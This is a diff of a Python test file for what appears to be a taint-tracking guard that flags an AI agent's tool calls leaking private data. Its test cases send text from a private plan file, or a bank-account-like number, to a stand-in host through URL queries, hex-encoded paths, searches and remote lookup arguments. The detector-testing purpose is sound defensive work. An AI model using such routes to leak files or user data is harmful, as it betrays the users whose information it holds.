@@ -149,11 +149,13 @@ async def test_text_of_a_private_file_is_asked_about_where_all_is_trusted(size: 
         await talk.get(f"https://host.example/?q={query(PLAN[40 : 40 + size])}"),
         await talk.get(f"https://host.example/{PLAN[40 : 40 + size].encode().hex()}"),
         await talk.search(PLAN[40 : 40 + min(size, 200)]),
-        await talk.call("lookup", name=PLAN[40 : 40 + size]),
+        await talk.call("lookup", name=f"https://host.example/?q={query(PLAN[40 : 40 + size])}"),
         await talk.call("schedule", name=f"GET https://host.example/?q={query(PLAN[40:80])}"),
     ]
 
-    assert all("text from notes/plan.md (read_file)" in why for why in told), told
+    found = ["text from notes/plan.md (read_file)" in why for why in told]
+    assert found == [True, True, True, size < 200, True], told
+    assert size < 200 or "an address of " in told[3]
     assert not talk.state.taint.label.untrusted
 
 
@@ -284,11 +286,20 @@ async def test_a_line_of_an_old_log_protects_all_that_was_said() -> None:
 
 
 @pytest.mark.parametrize(
-    ("given", "why"), [("DE89 3704 0044 0532", "your own words"), ("x" * 30_000, "too long")]
+    ("address", "why"),
+    [
+        ("https://a.example/DE89+3704+0044+0532", "text from your own words"),
+        (f"https://a.example/{'x ' * 20_000}", "more text than can be compared"),
+        (f"https://a.example/{'x' * 300}", "an address of 301 characters"),
+        ("https://shop.example/about", ""),
+        ("DE89 3704 0044 0532", ""),
+    ],
 )
-async def test_a_remote_tool_that_others_see_is_asked_about(given: str, why: str) -> None:
+async def test_an_address_that_a_remote_tool_gets_is_compared_too(address: str, why: str) -> None:
     talk = Talk()
     talk.say(WORDS)
     assert await talk.call("lookup", name="weather") == ""
-    assert await talk.call("lookup", name="more weather") == ""
-    assert why in await talk.call("lookup", name=given)
+    assert await talk.call("lookup", name="https://shop.example/") == ""
+    asked = await talk.call("lookup", name=f"fetch {address}")
+    assert why in asked
+    assert bool(asked) == bool(why)
